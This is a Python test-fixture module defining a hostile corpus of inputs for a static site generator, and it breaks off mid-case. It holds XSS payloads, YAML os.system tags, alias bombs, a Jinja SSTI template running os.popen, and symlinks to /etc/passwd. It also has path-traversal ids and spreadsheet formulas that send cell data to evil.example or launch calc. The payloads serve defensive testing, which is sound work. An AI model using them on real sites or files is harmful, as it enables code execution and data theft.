"""The hostile corpus, written from docs/format.md alone: each case is BASE (tests/folders.py)
with the files it changes, and what `ssigen check` and `ssigen build` must make of it. The
proofs every case goes through are in tests/test_hostile_corpus.py.

A few cases are made at run time instead (`setup`): a 60 MB file, symbolic links, a named
pipe, a template that writes its own path.
"""
from __future__ import annotations

import csv
import io
import os
import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from .folders import BASE, Files

SECRET = "TOPSECRET-7d3f1c-outside-the-content-folder"
PASSWD_MARK = "root:x:0:0"

X1 = "<script>alert(1)</script>"
X2 = '"><img src=x onerror=alert(1)>'
X3 = "</script><script>alert(1)</script>"

CONFIG = BASE["ssigen.yml"]             # five lines: title, client, prepared_by, contact, as_of
MEMBERS = BASE["members.csv"]           # header, alice, bob (alice is bob's manager)
SSI = BASE["snapshots/ssi.csv"]         # header, alice, bob on 2026-06-01
MEMBERS_HEADER = "id,name,title,team,industry,manager,linkedin_url\n"
BOB = "bob,Bob Baker,Sales Manager,Enterprise,Software,alice,\n"
DEALS_HEADER = ("id,member,account,amount,currency,status,date,stage,contribution,meetings,"
                "verbatim\n")
DEAL = ("D-1,alice,Acme Corp,10000,EUR,won,2026-05-10,find_prospect,50,2,"
        "Found them through a post.\n")


@dataclass(frozen=True)
class Case:
    expect: str                            # "error", "valid" or "either"
    changes: Files = field(default_factory=dict)  # files on top of BASE (None deletes one)
    errors_name: tuple[str, ...] = ()      # an error must name each of these files
    shown: tuple[tuple[str, str], ...] = ()  # (page or "*", text) visible on that page
    marked: tuple[str, ...] = ()           # wherever the first word is visible, all of it is
    absent: tuple[str, ...] = ()           # in no file of the built site
    csv_contains: tuple[str, ...] = ()     # each a substring of some cell of data/scores.csv
    isolate: bool = False                  # run ssigen in a subprocess with a time limit
    timeout: float = 30.0
    setup: Callable[[Path, Path], None] | None = None   # (content, outside) at run time
    extra: Callable[[Path], None] | None = None          # more checks on a built site
    bug: str | None = None                 # a known bug: xfail(strict=True, reason=bug)


# --------------------------------------------------------------------------- big files

def _alias_bomb(indent: str = "") -> str:
    """Ten levels of nine aliases each: 9^10 'lol's once expanded."""
    lols = ",".join(['"lol"'] * 9)
    lines = [f"{indent}l0: &l0 [{lols}]\n"]
    lines += [f"{indent}l{i}: &l{i} [{','.join([f'*l{i - 1}'] * 9)}]\n" for i in range(1, 10)]
    return "".join(lines)


ACTIVITY_FIELDS = (
    "connections", "followers", "decision_maker_connections", "colleague_connections",
    "group_memberships", "invitations_sent", "invitations_accepted", "posts", "articles",
    "comments", "reactions", "shares", "group_posts", "inmails_sent", "inmails_replied",
    "searches", "profile_views", "leads_saved", "accounts_saved", "profile_views_received",
    "post_impressions", "messages_received", "active_days")
HUGE_INT = "1" + "0" * 400
# Every activity count a 401-digit number, over denominators of 1.
HUGE_ACTIVITY = ("member,date," + ",".join(f"activity.{f}" for f in ACTIVITY_FIELDS) + "\n"
                 + "alice,2026-06-01,"
                 + ",".join("1" if f in ("invitations_sent", "inmails_sent") else HUGE_INT
                            for f in ACTIVITY_FIELDS) + "\n")

VERBATIM = ((f"MKVERB {X1} {X2} {X3} <!-- ]]> {{{{ 7*7 }}}} {{% raw %}} &amp; &lt;b&gt; "
             + "lorem ipsum dolor sit amet " * 400)[:9990] + " ENDVERB")

INDUSTRY_NAME = '"MKINDNAME <script>alert(1)</script> ""><img src=x onerror=alert(1)>"'

NOTE_HTML = """\
MKNOTE start of the note.

<a href="javascript:alert(1)">js link</a>

<img src=x onerror=alert(1)>

<svg onload=alert(1)><circle r="1" /></svg>

<iframe src="https://evil.example/"></iframe>

<form action="https://evil.example/"><input name="q"><button formaction="javascript:alert(1)">go</button></form>

<a href="&#106;avascript:alert(1)">entity link</a>

<a href="java&#x09;script:alert(1)">tab link</a>

<a href="  JaVaScRiPt:alert(1)">spaced link</a>

<a href="javascript&colon;alert(1)">colon entity link</a>

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>

<a href="vbscript:msgbox(1)">vb link</a>

<object data="evil.swf"></object><embed src="evil.swf">

<base href="https://evil.example/">

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<script>alert(1)</script>

<scr<script>ipt>alert(1)</scr</script>ipt>

<math><mi xlink:href="javascript:alert(1)">m</mi></math>

<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>

<details open ontoggle=alert(1)>details</details>

<img src="x" title='"><script>alert(1)</script>'>

<a href="https://ok.example/" onclick="alert(1)">onclick link</a>

<p style="background:url(javascript:alert(1))">styled</p>

<frameset><frame src="javascript:alert(1)"></frameset>

MKNOTE end of the note.
"""

NOTE_MARKDOWN = """\
MKMD start of the note.

- [x1](javascript:alert(1))
- [x2](JaVaScRiPt:alert(1))
- [x3](&#106;avascript:alert(1))
- [x4]( javascript:alert(1) )
- [x5](data:text/html,<script>alert(1)</script>)
- [x6](vbscript:msgbox(1))
- ![img](javascript:alert(1))
- <javascript:alert(1)>
- [x7][r1]
- [x8](<javascript:alert(1)>)
- [x9](javascript:alert(1) "title")

[r1]: javascript:alert(1)

MKJINJA2 {{ 7*7 }} and {% raw %} and {{ config.items() }}

MKMD end of the list.

An unclosed comment follows <!-- and the rest
"""


# --------------------------------------------------------------------------- run-time content

def _huge_file(content: Path, outside: Path) -> None:
    header = "member,date,ssi.brand,ssi.people,ssi.insights,ssi.relationships\n"
    with open(content / "snapshots" / "huge.csv", "w", encoding="utf-8") as f:
        f.write(header)
        f.write("alice,2026-06-02,")
        chunk = "A" * (1024 * 1024)
        for _ in range(60):
            f.write(chunk)
        f.write(",1,1,1\n")
    assert (content / "snapshots" / "huge.csv").stat().st_size > 60 * 1024 * 1024


def _secret_file(outside: Path, name: str = "secret.txt", text: str | None = None) -> Path:
    outside.mkdir(exist_ok=True)
    path = outside / name
    path.write_text(text if text is not None else f"{SECRET}\n", encoding="utf-8")
    return path


def _link_passwd_snapshot(content: Path, outside: Path) -> None:
    (content / "snapshots" / "passwd.csv").symlink_to("/etc/passwd")


def _link_passwd_notes(content: Path, outside: Path) -> None:
    (content / "notes").mkdir()
    (content / "notes" / "alice.md").symlink_to("/etc/passwd")


def _link_secret_notes(content: Path, outside: Path) -> None:
    (content / "notes").mkdir()
    (content / "notes" / "index.md").symlink_to(_secret_file(outside, "note.md"))


def _link_passwd_assets(content: Path, outside: Path) -> None:
    (content / "assets").mkdir()
    (content / "assets" / "passwd.txt").symlink_to("/etc/passwd")


def _link_secret_assets_file(content: Path, outside: Path) -> None:
    (content / "assets").mkdir()
    (content / "assets" / "logo.svg").symlink_to(_secret_file(outside, "logo.svg"))


def _link_secret_assets_dir(content: Path, outside: Path) -> None:
    _secret_file(outside, "secret.txt")
    # Change a file the build reads, so that this is not "the site already built".
    with open(content / "ssigen.yml", "a", encoding="utf-8") as f:
        f.write("activity_window_days: 31\n")
    (content / "assets").symlink_to(outside, target_is_directory=True)


def _link_secret_members(content: Path, outside: Path) -> None:
    text = (content / "members.csv").read_text(encoding="utf-8").replace("Alice Archer", SECRET)
    (content / "members.csv").unlink()
    (content / "members.csv").symlink_to(_secret_file(outside, "members.csv", text))


def _link_secret_config(content: Path, outside: Path) -> None:
    text = (content / "ssigen.yml").read_text(encoding="utf-8").replace(
        "Hostile corpus baseline", SECRET)
    (content / "ssigen.yml").unlink()
    (content / "ssigen.yml").symlink_to(_secret_file(outside, "ssigen.yml", text))


def _link_secret_template(content: Path, outside: Path) -> None:
    (content / "templates").mkdir()
    (content / "templates" / "index.html").symlink_to(_secret_file(outside, "index.html"))


def _template_ssti(content: Path, outside: Path) -> None:
    outside.mkdir(exist_ok=True)
    (content / "templates").mkdir()
    (content / "templates" / "index.html").write_text(
        "<html><body>SSTI {{ cycler.__init__.__globals__.os.popen('touch %s').read() }}"
        "</body></html>\n" % (outside / "pwned"), encoding="utf-8")


def _link_loop(content: Path, outside: Path) -> None:
    (content / "snapshots" / "loop").symlink_to("..", target_is_directory=True)


def _fifo(content: Path, outside: Path) -> None:
    os.mkfifo(content / "snapshots" / "pipe.csv")


# --------------------------------------------------------------------------- checks on a site

def read_scores_csv(site: Path) -> list[list[str]]:
    text = (site / "data" / "scores.csv").read_text(encoding="utf-8-sig")
    first = text.splitlines()[0] if text else ""
    delimiter = ";" if first.count(";") > first.count(",") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _no_negative_zero(site: Path) -> None:
    cells = [c for row in read_scores_csv(site) for c in row]
    assert not [c for c in cells if re.fullmatch(r"-0(\.0*)?", c)], \
        "a pillar given as -0 is exported as a negative zero"


# --------------------------------------------------------------------------- the cases

CASES: dict[str, Case] = {
    "valid-minimal": Case("valid", shown=(("index.html", "Alice Archer"),
                                          ("people/bob.html", "Bob Baker"))),
    # --- ssigen.yml
    "yaml-malformed": Case("error", {"ssigen.yml": 'title: [unclosed\nclient: "oops\n  : : - :\n'},
                           errors_name=("ssigen.yml",)),
    "yaml-deep-nesting": Case("error", {"ssigen.yml": "title: Deep\nclient: " + "[" * 5000
                                        + "]" * 5000 + "\n"},
                              errors_name=("ssigen.yml",)),
    "yaml-empty": Case("error", {"ssigen.yml": b""}, errors_name=("ssigen.yml",)),
    "yaml-list": Case("error", {"ssigen.yml": "- title: A list is not a mapping\n"
                                              "- client: Nobody\n"},
                      errors_name=("ssigen.yml",)),
    "yaml-python-tag": Case("error", {"ssigen.yml": 'title: !!python/object/apply:os.system '
                                                    '["echo pwned > /tmp/pwned"]\n'},
                            errors_name=("ssigen.yml",)),
    "yaml-python-tag-members": Case("error", {
        "members.csv": None,
        "members.yml": '- id: alice\n'
                       '  name: !!python/object/apply:os.system ["echo pwned > /tmp/pwned"]\n'
                       '- id: bob\n'
                       '  name: Bob Baker\n'}, errors_name=("members.yml",)),
    "yaml-billion-laughs": Case("error", {"ssigen.yml": _alias_bomb() + "title: *l9\n"
                                                                        "client: *l9\n"},
                                errors_name=("ssigen.yml",), isolate=True, timeout=5),
    "yaml-billion-laughs-snapshot": Case("error", {
        "snapshots/bomb.yml": "- member: alice\n  date: 2026-06-02\n" + _alias_bomb("  ")
                              + "  profile:\n    headline: *l9\n    about: *l9\n"
                                "    skills: *l9\n"},
        errors_name=("snapshots/bomb.yml",), isolate=True, timeout=5),
    "yaml-date-invalid-config": Case("error", {"ssigen.yml": CONFIG.replace(
        "as_of: 2026-06-30", "as_of: 2026-02-30")}, errors_name=("ssigen.yml",)),
    "yaml-date-invalid-snapshot": Case("error", {
        "snapshots/extra.yml": "- member: alice\n  date: 2026-02-30\n"
                               "  ssi: {brand: 10, people: 10, insights: 10, relationships: 10}\n"},
        errors_name=("snapshots/extra.yml",)),
    "yaml-duplicate-key": Case("either", {"ssigen.yml": CONFIG
                                          + "title: <script>alert('dup')</script>\n"}),
    "missing-ssigen-yml": Case("error", {"ssigen.yml": None}, errors_name=("ssigen.yml",)),
    "locale-traversal": Case("error", {"ssigen.yml": CONFIG
                                       + "locale: ../../../../../../etc/passwd\n"},
                             errors_name=("ssigen.yml",)),
    "currency-hostile": Case("error", {"ssigen.yml": CONFIG
                                       + 'currency: "<script>alert(1)</script>"\n'},
                             errors_name=("ssigen.yml",)),
    "rates-inf": Case("error", {"ssigen.yml": CONFIG + "rates:\n  USD: .inf\n",
                                "deals.csv": DEALS_HEADER + DEAL.replace(",EUR,", ",USD,")},
                      errors_name=("ssigen.yml",)),
    "contact-javascript": Case("error", {"ssigen.yml": CONFIG.replace(
        "https://example.com/contact", "javascript:alert(1)")}, errors_name=("ssigen.yml",)),
    "contact-javascript-obfuscated": Case("error", {"ssigen.yml": CONFIG.replace(
        "https://example.com/contact", '"  JaVaScRiPt:alert(document.domain)"')},
        errors_name=("ssigen.yml",)),
    "contact-attr-breakout": Case("either", {"ssigen.yml": CONFIG.replace(
        "https://example.com/contact", "'https://example.com/\"><script>alert(1)</script>'")}),
    "contact-data-url": Case("either", {"ssigen.yml": CONFIG.replace(
        "https://example.com/contact", '"data:text/html,<script>alert(1)</script>"')}),
    "site-url-javascript": Case("either", {"ssigen.yml": CONFIG
                                           + 'site_url: "javascript:alert(1)//"\n'}),
    "brand-color-injection": Case("either", {"ssigen.yml": CONFIG + 'brand:\n  primary_color: '
                                             '"red;}</style><script>alert(1)</script><style>"\n'}),
    "brand-logo-traversal": Case("either", {"ssigen.yml": CONFIG + "brand:\n  logo: "
                                            "../../../../../../../../../../etc/passwd\n"},
                                 absent=(PASSWD_MARK,)),
    "brand-logo-javascript": Case("either", {"ssigen.yml": CONFIG
                                             + 'brand:\n  logo: "javascript:alert(1)"\n'}),
    "window-days-huge": Case("either", {
        "ssigen.yml": CONFIG + "activity_window_days: 1000000000000000000000000000000\n",
        "snapshots/activity.csv": "member,date,activity.posts,activity.connections\n"
                                  "alice,2026-06-01,3,400\n"}),
    # --- CSV bytes and syntax
    "csv-unclosed-quote": Case("error", {"members.csv": MEMBERS_HEADER + 'alice,"Alice Archer,'
                                         'Account Executive,Enterprise,Software,,\n' + BOB},
                               errors_name=("members.csv",)),
    "csv-unclosed-quote-last-row": Case("error", {
        "members.csv": MEMBERS_HEADER
                       + "alice,Alice Archer,Account Executive,Enterprise,Software,,\n"
                       + 'bob,Bob Baker,"Sales Manager,Enterprise,Software,alice,\n'},
        errors_name=("members.csv",)),
    "csv-tab-delimited": Case("error", {"members.csv": MEMBERS.replace(",", "\t").encode()},
                              errors_name=("members.csv",)),
    "csv-pipe-delimited": Case("error", {"members.csv": MEMBERS.replace(",", "|").encode()},
                               errors_name=("members.csv",)),
    "csv-utf16": Case("error", {"members.csv": b"\xff\xfe" + MEMBERS.replace(
        "Alice Archer", "H\xe9l\xe8ne Archer").encode("utf-16-le")},
        errors_name=("members.csv",)),
    "csv-latin1": Case("error", {"members.csv": MEMBERS.replace(
        "Alice Archer", "H\xe9l\xe8ne M\xfcller").encode("latin-1")}, errors_name=("members.csv",)),
    "csv-nul-byte": Case("error", {"members.csv": MEMBERS.replace(
        "Alice Archer", "Alice\x00Archer").encode()}, errors_name=("members.csv",)),
    "members-csv-is-directory": Case("error", {
        "members.csv": None, "members.csv/README.txt": "members.csv is a folder in this case.\n"},
        errors_name=("members.csv",)),
    "unknown-field-hostile-header": Case("error", {
        "members.csv": "id,name,title,team,industry,manager,linkedin_url,"
                       "<script>alert(1)</script>\n"
                       "alice,Alice Archer,Account Executive,Enterprise,Software,,"
                       "https://www.linkedin.com/in/alice-archer/,x\n"
                       "bob,Bob Baker,Sales Manager,Enterprise,Software,alice,,x\n"},
        errors_name=("members.csv",)),
    "duplicate-member-id": Case("error", {"members.csv": MEMBERS + "alice,Alice Again,,,,,\n"},
                                errors_name=("members.csv",)),
    "huge-file-60mb": Case("error", errors_name=("snapshots/huge.csv",), setup=_huge_file),
    # --- ids that would become file names
    "member-id-traversal": Case("error", {
        "members.csv": MEMBERS + "../evil,Evil Eve,,,,,\n",
        "snapshots/ssi.csv": SSI + "../evil,2026-06-01,1,1,1,1\n"}, errors_name=("members.csv",)),
    "member-id-urlencoded": Case("error", {
        "members.csv": MEMBERS + "..%2Fevil,Evil Eve,,,,,\n",
        "snapshots/ssi.csv": SSI + "..%2Fevil,2026-06-01,1,1,1,1\n"}, errors_name=("members.csv",)),
    "member-id-con": Case("error", {"members.csv": MEMBERS + "CON,Evil Eve,,,,,\n",
                                    "snapshots/ssi.csv": SSI + "CON,2026-06-01,1,1,1,1\n"},
                          errors_name=("members.csv",)),
    "member-id-300-chars": Case("error", {
        "members.csv": MEMBERS + "a" * 300 + ",Evil Eve,,,,,\n",
        "snapshots/ssi.csv": SSI + "a" * 300 + ",2026-06-01,1,1,1,1\n"},
        errors_name=("members.csv",)),
    "member-id-trailing-newline": Case("either", {
        "members.csv": None,
        "members.yml": '- id: alice\n  name: Alice Archer\n- id: bob\n  name: Bob Baker\n'
                       '- id: "evil\\n"\n  name: Newline Nick\n'}),
    "members-dir-bad-stem": Case("error", {"members.csv": None,
                                           "members/alice.yml": "name: Alice Archer\n",
                                           "members/bob.yml": "name: Bob Baker\n",
                                           "members/Bad Name.yml": "name: Bad Name\n"},
                                 errors_name=("members/Bad Name.yml",)),
    "cohort-id-traversal": Case("error", {"cohorts.yml": "- id: ../../evil\n"
                                                         "  name: Traversal cohort\n"
                                                         "  start: 2026-01-01\n"
                                                         "  end: 2026-02-01\n"
                                                         "  members: [alice, bob]\n"},
                                errors_name=("cohorts.yml",)),
    # --- values
    "date-feb30-csv": Case("error", {"snapshots/ssi.csv": SSI.replace(
        "alice,2026-06-01", "alice,2026-02-30")}, errors_name=("snapshots/ssi.csv",)),
    "number-inf-csv": Case("error", {"snapshots/ssi.csv": SSI.replace(
        "alice,2026-06-01,15.5,", "alice,2026-06-01,1e309,")}, errors_name=("snapshots/ssi.csv",)),
    "number-nan-csv": Case("error", {"snapshots/ssi.csv": SSI.replace(
        "alice,2026-06-01,15.5,", "alice,2026-06-01,NaN,")}, errors_name=("snapshots/ssi.csv",)),
    "number-nan-yaml": Case("error", {
        "snapshots/extra.yml": "- member: alice\n  date: 2026-06-02\n  ssi: "
                               "{brand: .nan, people: 10, insights: 10, relationships: 10}\n"},
        errors_name=("snapshots/extra.yml",)),
    "number-negative-zero": Case("either", {"snapshots/ssi.csv": SSI.replace(
        "alice,2026-06-01,15.5,", "alice,2026-06-01,-0,")}, extra=_no_negative_zero),
    "huge-int-activity": Case("either", {"snapshots/activity.csv": HUGE_ACTIVITY}),
    "deal-amount-inf": Case("error", {"deals.csv": DEALS_HEADER
                                      + DEAL.replace(",10000,", ",1e309,")},
                            errors_name=("deals.csv",)),
    "deal-amount-nan": Case("error", {"deals.csv": DEALS_HEADER + DEAL.replace(",10000,", ",NaN,")},
                            errors_name=("deals.csv",)),
    "deal-contribution-nan": Case("error", {"deals.csv": DEALS_HEADER
                                            + DEAL.replace(",50,", ",nan,")},
                                  errors_name=("deals.csv",)),
    "deal-unknown-member": Case("error", {"deals.csv": DEALS_HEADER
                                          + DEAL.replace(",alice,", ",ghost,")},
                                errors_name=("deals.csv",)),
    "rubric-not-25": Case("error", {"rubric.yml": """\
        brand:
          - id: photo
            label: Profile photo
            signal: profile.photo
            points: 2
          - id: about
            signal: profile.about
            min_length: 300
            points: 3
        people:
          - id: connections
            signal: activity.connections
            target: 500
            points: 25
        insights:
          - id: posts
            signal: activity.posts
            target: 8
            points: 25
        relationships:
          - id: decision
            signal: activity.decision_maker_connections
            target: 100
            points: 25
        """}, errors_name=("rubric.yml",)),
    "linkedin-url-javascript": Case("error", {
        "members.csv": MEMBERS_HEADER + "alice,Alice Archer,,,,,javascript:alert(1)\n" + BOB},
        errors_name=("members.csv",)),
    "linkedin-url-attr-breakout": Case("either", {
        "members.csv": MEMBERS_HEADER + 'alice,Alice Archer,,,,,'
                                        '"https://www.linkedin.com/in/x""onmouseover=""alert(1)"\n'
                       + BOB}),
    # --- odd files and links
    "snapshot-dir-named-csv": Case("either", {
        "snapshots/dir.csv/README.txt": "a folder whose name ends in .csv\n"}),
    "snapshots-empty-yaml": Case("either", {"snapshots/empty.yml": b""}),
    "symlink-passwd-snapshot": Case("error", errors_name=("snapshots/passwd.csv",),
                                    setup=_link_passwd_snapshot),
    "symlink-passwd-notes": Case("either", absent=(PASSWD_MARK,), setup=_link_passwd_notes),
    "symlink-outside-notes": Case("either", absent=(SECRET,), setup=_link_secret_notes),
    "symlink-passwd-assets": Case("either", absent=(PASSWD_MARK,), setup=_link_passwd_assets),
    "symlink-outside-assets-file": Case("either", absent=(SECRET,),
                                        setup=_link_secret_assets_file),
    "symlink-outside-assets-dir": Case("either", absent=(SECRET,),
                                       setup=_link_secret_assets_dir),
    "symlink-outside-members": Case("either", absent=(SECRET,), setup=_link_secret_members),
    "symlink-outside-config": Case("either", absent=(SECRET,), setup=_link_secret_config),
    "symlink-outside-template": Case("either", absent=(SECRET,), setup=_link_secret_template),
    "symlink-loop": Case("either", setup=_link_loop, isolate=True, timeout=20),
    "fifo-in-snapshots": Case("either", setup=_fifo, isolate=True, timeout=5),
    # --- templates
    "template-syntax-error": Case("error", {
        "templates/index.html": "<html><body>{% if %}{{ x }</body></html>\n"},
        errors_name=("templates/index.html",)),
    "template-include-traversal": Case("error", {
        "templates/index.html": '<html><body>{% include "../../../../../../../../etc/passwd" %}'
                                "</body></html>\n"},
        errors_name=("templates/index.html",), absent=(PASSWD_MARK,)),
    "template-ssti": Case("either", setup=_template_ssti),
    # --- hostile but valid
    "hostile-names": Case(
        "valid",
        {"members.csv": MEMBERS
         + f'mallory,MKN1 {X1},"MKT1 ""><img src=x onerror=alert(1)>",MKTEAM1 {X3},'
           "MKIND1 <!-- ]]>,alice,\n"
           'trudy,"MKN2 ""><img src=x onerror=alert(1)> <!--",'
           "MKT2 ]]> </title><script>alert(2)</script>,MKTEAM2 <!--,"
           "MKIND2 </style><script>alert(3)</script>,mallory,\n",
         "snapshots/ssi.csv": SSI + "mallory,2026-06-01,20,20,20,20\ntrudy,2026-06-01,5,5,5,5\n"},
        shown=(("index.html", f"MKN1 {X1}"), ("people/mallory.html", f"MKN1 {X1}"),
               ("people/mallory.html", f"MKT1 {X2}"), ("people/mallory.html", f"MKTEAM1 {X3}"),
               ("index.html", f"MKN2 {X2} <!--"), ("people/trudy.html", f"MKN2 {X2} <!--"),
               ("people/trudy.html", "MKT2 ]]> </title><script>alert(2)</script>"),
               ("people/trudy.html", "MKTEAM2 <!--")),
        marked=(f"MKN1 {X1}", f"MKT1 {X2}", f"MKTEAM1 {X3}", "MKIND1 <!-- ]]>",
                f"MKN2 {X2} <!--", "MKT2 ]]> </title><script>alert(2)</script>",
                "MKTEAM2 <!--", "MKIND2 </style><script>alert(3)</script>")),
    "hostile-config": Case(
        "valid",
        {"ssigen.yml": f"title: 'MKTITLE {X1} </title><script>alert(2)</script>'\n"
                       f"client: 'MKCLIENT {X2}'\n"
                       f"prepared_by: 'MKPREP {X3} <!-- ]]>'\n"
                       "contact: https://example.com/contact\n"
                       "as_of: 2026-06-30\n"
                       "bands:\n"
                       "  - min: 0\n"
                       "    label: 'MKBAND0 <img src=x onerror=alert(1)>'\n"
                       "  - min: 40\n"
                       f"    label: 'MKBAND1 {X3}'\n"},
        shown=(("index.html", f"MKTITLE {X1} </title><script>alert(2)</script>"),
               ("people/alice.html", f"MKTITLE {X1} </title><script>alert(2)</script>"),
               ("index.html", f"MKCLIENT {X2}"), ("index.html", f"MKPREP {X3} <!-- ]]>"),
               ("methodology.html", f"MKPREP {X3} <!-- ]]>"),
               ("*", "MKBAND0 <img src=x onerror=alert(1)>"),
               ("*", "MKBAND1 </script><script>alert(1)</script>")),
        marked=(f"MKTITLE {X1} </title><script>alert(2)</script>", f"MKCLIENT {X2}",
                f"MKPREP {X3} <!-- ]]>", "MKBAND0 <img src=x onerror=alert(1)>",
                "MKBAND1 </script><script>alert(1)</script>")),
    "hostile-deals": Case(
        "valid",
        {"deals.csv": DEALS_HEADER
         + f"MKDEALID {X1},alice,MKACC1 {X1},10000,EUR,won,2026-05-10,find_prospect,50,2,"
           + '"' + VERBATIM.replace('"', '""') + '"\n'
         + 'D-2,bob,"MKACC2 ""><img src=x onerror=alert(1)> <!--",5000,EUR,open,2026-06-10,'
           f"start_conversation,20,1,MKVERB2 {X3} ]]>\n"},
        shown=(("deals.html", f"MKACC1 {X1}"), ("*", f"MKACC2 {X2} <!--"),
               ("*", "@VERBATIM"), ("*", f"MKVERB2 {X3} ]]>")),
        marked=(f"MKACC1 {X1}", f"MKACC2 {X2} <!--", f"MKVERB2 {X3} ]]>",
                "MKDEALID <script>alert(1)</script>"),
        absent=("MKVERB 49",)),
    "hostile-cohorts": Case(
        "valid",
        {"cohorts.yml": "- id: wave-1\n"
                        f"  name: 'MKCOH1 {X1} {X2}'\n"
                        "  start: 2026-02-01\n  end: 2026-03-31\n  members: [alice, bob]\n"
                        "  sessions: 4\n"
                        "- id: wave-2\n"
                        f"  name: 'MKCOH2 {X3} <!-- ]]>'\n"
                        "  start: 2026-02-01\n  end: 2026-03-31\n  team: Enterprise\n",
         "notes/cohort-wave-1.md": f"MKCNOTE cohort note.\n\n{X1}\n\n"
                                   "<img src=x onerror=alert(1)>\n",
         "snapshots/ssi.csv": SSI + "alice,2026-01-10,10,10,10,10\nbob,2026-01-10,5,5,5,5\n"},
        shown=(("cohorts/wave-1.html", f"MKCOH1 {X1} {X2}"),
               ("cohorts/wave-2.html", f"MKCOH2 {X3} <!-- ]]>"),
               ("cohorts/wave-1.html", "MKCNOTE cohort note.")),
        marked=(f"MKCOH1 {X1} {X2}", f"MKCOH2 {X3} <!-- ]]>")),
    "hostile-notes-html": Case(
        "valid",
        {"notes/alice.md": NOTE_HTML, "notes/index.md": NOTE_HTML},
        shown=(("index.html", "MKNOTE start of the note."),
               ("people/alice.html", "MKNOTE start of the note."),
               ("index.html", "Prepared by Baseline Consultant"),
               ("people/alice.html", "Prepared by Baseline Consultant"))),
    "hostile-notes-markdown": Case(
        "valid",
        {"notes/bob.md": NOTE_MARKDOWN, "notes/index.md": NOTE_MARKDOWN},
        shown=(("index.html", "MKMD start of the note."),
               ("people/bob.html", "MKMD start of the note."),
               ("index.html", "MKJINJA2 {{ 7*7 }} and {% raw %} and {{ config.items() }}"),
               ("people/bob.html", "MKMD end of the list."),
               ("index.html", "Prepared by Baseline Consultant"),
               ("people/bob.html", "Prepared by Baseline Consultant")),
        absent=("MKJINJA2 49",)),
    "hostile-unicode": Case(
        "valid",
        {"members.csv": MEMBERS
         + "rtl,MKBIDI \u202egnp.exe Person,Title \u202eevil,"
           "\U0001f680 MKEMOJI Team \U0001f469\U0001f3fd\u200d\U0001f4bb,,,\n"
           "zw,MKZW Zero\u200bWidth\u200c Jo\u200diner\u2060Name\ufeff,,Enterprise,,,\n"
           "arabic,\u0645\u062d\u0645\u062f \u0627\u0644\u0639\u0644\u064a,"
           "\u0645\u062f\u064a\u0631 \u0627\u0644\u0645\u0628\u064a\u0639\u0627\u062a,"
           "\u0641\u0631\u064a\u0642 \u0627\u0644\u0645\u0628\u064a\u0639\u0627\u062a,,,\n"
           "emoji,MKEMO \U0001f600\U0001f389 \xc9milie \xdcn\xefc\xf8d\xe9,\U0001f984,,,,\n",
         "snapshots/ssi.csv": SSI + "".join(f"{m},2026-06-01,10,10,10,10\n"
                                            for m in ("rtl", "zw", "arabic", "emoji")),
         "ssigen.yml": CONFIG.replace("title: Hostile corpus baseline",
                                      "title: 'MKUTITLE \u202egpj.exe report'"),
         "deals.csv": DEALS_HEADER + "D-1,alice,MKUACC \u202ecba,10000,EUR,won,2026-05-10,"
                                     "find_prospect,50,2,MKUVERB \u202ereversed \U0001f642\n",
         "notes/index.md": "MKUNOTE \u202ereversed note \u0645\u062d\u0645\u062f\n"},
        shown=(("index.html", "محمد العلي"), ("people/arabic.html", "محمد العلي"),
               ("people/arabic.html", "مدير المبيعات"),
               ("people/rtl.html", "🚀 MKEMOJI Team 👩🏽‍💻"),
               ("people/emoji.html", "MKEMO 😀🎉 Émilie Ünïcødé"),
               ("people/zw.html", "MKZW ZeroWidth JoinerName"),
               ("people/rtl.html", "MKBIDI"), ("people/rtl.html", "gnp.exe Person"),
               ("index.html", "MKUTITLE"), ("index.html", "gpj.exe report"),
               ("index.html", "MKUNOTE"), ("deals.html", "MKUACC"))),
    "hostile-jinja": Case(
        "valid",
        {"members.csv": MEMBERS
         + "jinja,MKJ1 {{ 7*7 }} Person,MKJT1 {% raw %} title,MKJTEAM {{ config }},,,\n"
           "jinja2,MKJ3 {{ ''.__class__.__mro__ }} {% endraw %},{# comment #},,,,\n",
         "snapshots/ssi.csv": SSI + "jinja,2026-06-01,10,10,10,10\njinja2,2026-06-01,11,10,10,10\n",
         "ssigen.yml": CONFIG.replace("client: Baseline Client", "client: 'MKJCLIENT {{ 7*7 }}'"),
         "notes/jinja.md": "MKJNOTE {{ 7*7 }} and {% include '/etc/passwd' %} {% raw %}\n"},
        shown=(("people/jinja.html", "MKJ1 {{ 7*7 }} Person"),
               ("index.html", "MKJ1 {{ 7*7 }} Person"),
               ("people/jinja.html", "MKJT1 {% raw %} title"),
               ("people/jinja.html", "MKJTEAM {{ config }}"),
               ("people/jinja2.html", "MKJ3 {{ ''.__class__.__mro__ }} {% endraw %}"),
               ("index.html", "MKJCLIENT {{ 7*7 }}"),
               ("people/jinja.html",
                "MKJNOTE {{ 7*7 }} and {% include '/etc/passwd' %} {% raw %}")),
        absent=("MKJ1 49", "MKJCLIENT 49", "MKJNOTE 49", PASSWD_MARK)),
    "hostile-formula": Case(
        "valid",
        {"members.csv": MEMBERS
         + 'formula1,"=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",,"+SUM(1,2)",,,\n'
           "formula2,-2+3+cmd|' /C calc'!A0,,@SUM(1+1),,,\n"
           "formula3,@evil,,-team,,,\n"
           "formula4,+1-1,,=1+1,,,\n",
         "snapshots/ssi.csv": SSI + "".join(f"formula{i + 1},2026-06-01,10,10,10,{i}\n"
                                            for i in range(4)),
         "ssigen.yml": CONFIG + "bands:\n"
                                "  - min: 0\n"
                                "    label: '=HYPERLINK(\"https://evil.example\",\"band\")'\n"
                                "  - min: 40\n"
                                "    label: '@SUM(1+1)*cmd|\" /C calc\"!A0'\n"},
        shown=(("index.html", '=HYPERLINK("https://evil.example/?x="&A1,"Click")'),
               ("people/formula1.html", '=HYPERLINK("https://evil.example/?x="&A1,"Click")'),
               ("people/formula2.html", "-2+3+cmd|' /C calc'!A0"),
               ("people/formula3.html", "@evil"),
               ("*", '=HYPERLINK("https://evil.example","band")')),
        csv_contains=('HYPERLINK("https://evil.example/?x="&A1,"Click")',
                      "2+3+cmd|' /C calc'!A0", "SUM(1,2)", "evil", "1-1")),
    "hostile-snapshot-text": Case(
        "valid",
